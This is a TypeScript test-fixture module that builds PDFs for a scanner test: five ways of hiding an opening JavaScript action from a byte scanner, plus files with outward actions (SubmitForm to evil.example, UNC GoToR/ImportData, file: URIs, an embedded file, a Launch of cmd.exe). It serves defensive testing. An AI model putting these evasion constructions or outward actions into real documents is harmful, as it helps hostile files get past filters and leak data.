// PDFs that carry something a reader runs or reaches out with, built in memory for test/api/pdf-inspection.test.ts
// (issue #40). The five constructions a hostile review got past the old byte scanner: in each one the
// catalog's /OpenAction is object 5, a JavaScript action, and a reader finds object 5 through the
// cross-reference table (or stream) exactly where the file says it is. Then one file per outward-reaching
// action or attachment (finding M1), and ordinary files that must still pass.
import zlib from 'node:zlib';

/** The script every bypass runs when the file is opened. */
export const SCRIPT = '<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>';

const CATALOG = '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>';

/**
 * Writes a PDF piece by piece and remembers where each object starts, for the cross-reference table or
 * stream at the end: mark(n) records object n at the current offset (also in the middle of other bytes).
 */
class PdfWriter {
  private readonly chunks: Buffer[] = [];
  private length = 0;
  readonly offsets = new Map<number, number>();

  constructor(version = '1.7') {
    this.raw(`%PDF-${version}\n%\xe2\xe3\xcf\xd3\n`);
  }

  raw(bytes: string | Buffer): this {
    const buffer = typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes;
    this.chunks.push(buffer);
    this.length += buffer.length;
    return this;
  }

  mark(n: number): this {
    this.offsets.set(n, this.length);
    return this;
  }

  object(n: number, body: string): this {
    return this.mark(n).raw(`${n} 0 obj\n${body}\nendobj\n`);
  }

  /** A stream object; `afterKeyword` is the end of line after `stream` (LF, CRLF, or the CR alone of bypass e). */
  stream(n: number, dictionary: string, data: Buffer, afterKeyword = '\n'): this {
    const withLength = dictionary.replace(/>>\s*$/, `/Length ${data.length} >>`);
    return this.mark(n).raw(`${n} 0 obj\n${withLength}\nstream${afterKeyword}`).raw(data).raw('\nendstream\nendobj\n');
  }

  /** A classic cross-reference table for objects 1..size-1 (each must have been marked) and the trailer. */
  xrefTable(size: number, trailerExtra = ''): Buffer {
    const at = this.length;
    let xref = `xref\n0 ${size}\n0000000000 65535 f \n`;
    for (let n = 1; n < size; n++) xref += `${String(this.offsetOf(n)).padStart(10, '0')} 00000 n \n`;
    this.raw(`${xref}trailer\n<< /Size ${size} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${at}\n%%EOF\n`);
    return Buffer.concat(this.chunks);
  }

  /**
   * A cross-reference stream (PDF 1.5) as object `self`: the marked objects at their offsets, and the
   * ones in `compressed` (object number → [object stream, index]) inside an object stream.
   */
  xrefStream(self: number, compressed: Map<number, [number, number]> = new Map()): Buffer {
    this.mark(self);
    const size = self + 1;
    const rows = Buffer.alloc(size * 7);
    for (let n = 1; n < size; n++) {
      // Each row: type (1 at an offset, 2 inside an object stream), offset or object stream, generation or index.
      const inStream = compressed.get(n);
      rows.writeUInt8(inStream ? 2 : 1, n * 7);
      rows.writeUInt32BE(inStream ? inStream[0] : this.offsetOf(n), n * 7 + 1);
      rows.writeUInt16BE(inStream ? inStream[1] : 0, n * 7 + 5);
    }
    rows.writeUInt16BE(65535, 5); // object 0: the head of the free list
    const at = this.length;
    const data = zlib.deflateSync(rows);
    this.stream(self, `<< /Type /XRef /Size ${size} /Root 1 0 R /W [1 4 2] /Filter /FlateDecode >>`, data);
    this.raw(`startxref\n${at}\n%%EOF\n`);
    return Buffer.concat(this.chunks);
  }

  private offsetOf(n: number): number {
    const offset = this.offsets.get(n);
    if (offset === undefined) throw new Error(`object ${n} was never written`);
    return offset;
  }
}

/** The body of an object stream holding `objects` (numbered from `first`): the index line, then the objects. */
function objectStreamBody(objects: string[], first: number): { body: Buffer; header: number } {
  let index = '';
  let data = '';
  objects.forEach((object, i) => {
    index += `${first + i} ${data.length} `;
    data += `${object}\n`;
  });
  return { body: Buffer.from(index + data, 'latin1'), header: index.length };
}

/** Bytes in PNG "Sub" rows (predictor tag 1): each byte stored as its difference from the one before it. */
function pngSubRows(raw: Buffer, columns: number): Buffer {
  const padded = Buffer.concat([raw, Buffer.alloc((columns - (raw.length % columns)) % columns, 0x20)]);
  const rows: Buffer[] = [];
  for (let at = 0; at < padded.length; at += columns) {
    const row = padded.subarray(at, at + columns);
    const encoded = Buffer.alloc(columns + 1);
    encoded[0] = 1;
    for (let i = 0; i < columns; i++) encoded[i + 1] = (row[i] - (i === 0 ? 0 : row[i - 1])) & 0xff;
    rows.push(encoded);
  }
  return Buffer.concat(rows);
}

/** The first objects of every bypass: catalog (opening with object 5), pages, one page. */
function start(): PdfWriter {
  return new PdfWriter().object(1, CATALOG).object(2, PAGES).object(3, PAGE);
}

/** (a) Object 5 lies inside the data of a harmless stream (object 4); the xref entry for 5 points into it. */
function insideStreamData(): Buffer {
  const pdf = start();
  const before = '% some harmless bytes\n';
  const inner = `5 0 obj\n${SCRIPT}\nendobj\n`;
  const data = Buffer.from(`${before}${inner}% more harmless bytes\n`, 'latin1');
  pdf.mark(4).raw(`4 0 obj\n<< /Length ${data.length} >>\nstream\n`);
  pdf.mark(5);
  // Object 5 starts `before.length` bytes into the stream data.
  pdf.offsets.set(5, (pdf.offsets.get(5) ?? 0) + before.length);
  return pdf.raw(data).raw('\nendstream\nendobj\n').xrefTable(6);
}

/** (b) Object 5 between `%stream` and `%endstream` comments, which a scanner took for stream data. */
function betweenStreamComments(): Buffer {
  const pdf = start().object(4, '<< /Producer (CV) >>');
  pdf.raw('%stream\n').object(5, SCRIPT).raw('%endstream\n');
  return pdf.xrefTable(6);
}

/** An object stream (object 6) with object 5 inside, and a cross-reference stream (object 7) to find both. */
function inObjectStream(dictionaryExtra: string, encode: (body: Buffer) => Buffer, afterKeyword = '\n'): Buffer {
  const pdf = start().object(4, '<< /Producer (CV) >>');
  const { body, header } = objectStreamBody([SCRIPT], 5);
  pdf.stream(6, `<< /Type /ObjStm /N 1 /First ${header} /Filter /FlateDecode ${dictionaryExtra}>>`, encode(body), afterKeyword);
  return pdf.xrefStream(7, new Map([[5, [6, 0]]]));
}

/** (c) "(obj)" after /Type /ObjStm: a scanner that took the text since the last "obj" as the dictionary missed /ObjStm. */
function objInObjectStreamHeader(): Buffer {
  return inObjectStream('/Comment (obj) ', (body) => zlib.deflateSync(body));
}

/** (d) A PNG predictor on the object stream: inflated without it, the objects are scrambled. */
function predictedObjectStream(): Buffer {
  const columns = 16;
  return inObjectStream(`/DecodeParms << /Predictor 11 /Columns ${columns} >> `, (body) => zlib.deflateSync(pngSubRows(body, columns)));
}

/** (e) The object stream's `stream` keyword ended by CR alone. */
function crAfterStreamKeyword(): Buffer {
  return inObjectStream('', (body) => zlib.deflateSync(body), '\r');
}

/** The reviewer's five bypasses of the byte scanner (issue #40, finding H), each opening with JavaScript. */
export const BYPASSES: Record<string, () => Buffer> = {
  'a: objects inside a harmless stream': insideStreamData,
  'b: objects between %stream and %endstream comments': betweenStreamComments,
  'c: (obj) after /Type /ObjStm': objInObjectStreamHeader,
  'd: PNG predictor on the object stream': predictedObjectStream,
  'e: stream keyword ended by CR alone': crAfterStreamKeyword,
};

/** A one-page PDF whose catalog has `catalogExtra`, whose page has `pageExtra`, and further objects from 4 on. */
export function pdfWithObjects(options: { catalogExtra?: string; pageExtra?: string; objects?: (string | { dictionary: string; data: Buffer })[] }): Buffer {
  const pdf = new PdfWriter()
    .object(1, `<< /Type /Catalog /Pages 2 0 R ${options.catalogExtra ?? ''}>>`)
    .object(2, PAGES)
    .object(3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${options.pageExtra ?? ''}>>`);
  const objects = options.objects ?? [];
  objects.forEach((object, i) => {
    if (typeof object === 'string') pdf.object(4 + i, object);
    else pdf.stream(4 + i, object.dictionary, object.data);
  });
  return pdf.xrefTable(4 + objects.length);
}

const link = (uri: string) => `<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] /A << /S /URI /URI ${uri} >> >>`;

/** One file per outward-reaching action (finding M1), plus an attachment and a launch action. */
export const OUTWARD: Record<string, { bytes: () => Buffer; reason: RegExp }> = {
  'GoToR to a \\\\host\\share file': {
    bytes: () => pdfWithObjects({ catalogExtra: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\cv.pdf) /D [0 /Fit] >>' }),
    reason: /names \/GoToR/,
  },
  SubmitForm: {
    bytes: () => pdfWithObjects({ catalogExtra: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >>' }),
    reason: /names \/SubmitForm/,
  },
  ImportData: {
    bytes: () => pdfWithObjects({ catalogExtra: '/OpenAction << /S /ImportData /F (\\\\\\\\evil.example\\\\share\\\\data.fdf) >>' }),
    reason: /names \/ImportData/,
  },
  'URI with file:': {
    bytes: () => pdfWithObjects({ pageExtra: `/Annots [${link('(file://evil.example/share/cv.exe)')}]` }),
    reason: /links to a file: URI/,
  },
  // The same as a hex string with a byte no text encoding has: qpdf gives it as "b:<hex>".
  'URI with FILE: as a binary hex string': {
    bytes: () => pdfWithObjects({ pageExtra: `/Annots [${link(`<${Buffer.from('FILE://evil.example/x\x00', 'latin1').toString('hex')}>`)}]` }),
    reason: /links to a FILE: URI/,
  },
  // The URI as an indirect object: a reader follows the reference.
  'URI with a UNC path in an indirect string': {
    bytes: () => pdfWithObjects({ pageExtra: `/Annots [${link('4 0 R')}]`, objects: ['(\\\\\\\\evil.example\\\\share)'] }),
    reason: /links to a URI without http, https or mailto/,
  },
  // No /EmbeddedFiles name tree and no /Type /EmbeddedFile (which is optional): an attachment annotation.
  'embedded file in a FileAttachment annotation': {
    bytes: () =>
      pdfWithObjects({
        pageExtra: '/Annots [4 0 R]',
        objects: [
          '<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 90 720] /FS 5 0 R /Contents (CV) >>',
          '<< /Type /Filespec /F (tool.exe) /UF (tool.exe) /EF << /F 6 0 R >> >>',
          { dictionary: '<< >>', data: Buffer.from('MZ not really a program') },
        ],
      }),
    reason: /names \/FileAttachment|key \/EF/,
  },
  Launch: {
    bytes: () => pdfWithObjects({ catalogExtra: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' }),
    reason: /names \/Launch/,
  },
};

/** An ordinary CV with a web link and a mail link. */
export function pdfWithLinks(): Buffer {
  return pdfWithObjects({
    pageExtra: `/Annots [${link('(https://www.linkedin.com/in/ravi)')} ${link('(mailto:ravi.kumar@example.com)')} ${link('(http://example.com/)')}]`,
  });
}

/** An ordinary PDF 1.5 file: its page tree and font in a compressed object stream, found through a cross-reference stream. */
export function pdfWithObjectStream(): Buffer {
  const pdf = new PdfWriter().object(1, '<< /Type /Catalog /Pages 2 0 R >>');
  pdf.stream(4, '<< >>', Buffer.from('BT /F1 18 Tf 72 760 Td (Curriculum vitae) Tj ET'));
  pdf.object(5, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 3 0 R >> >> >>');
  // Objects 2 (the page tree) and 3 (the font) inside object stream 6.
  const { body, header } = objectStreamBody(['<< /Type /Pages /Kids [5 0 R] /Count 1 >>', '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'], 2);
  pdf.stream(6, `<< /Type /ObjStm /N 2 /First ${header} /Filter /FlateDecode >>`, zlib.deflateSync(body));
  return pdf.xrefStream(
    7,
    new Map([
      [2, [6, 0]],
      [3, [6, 1]],
    ]),
  );
}
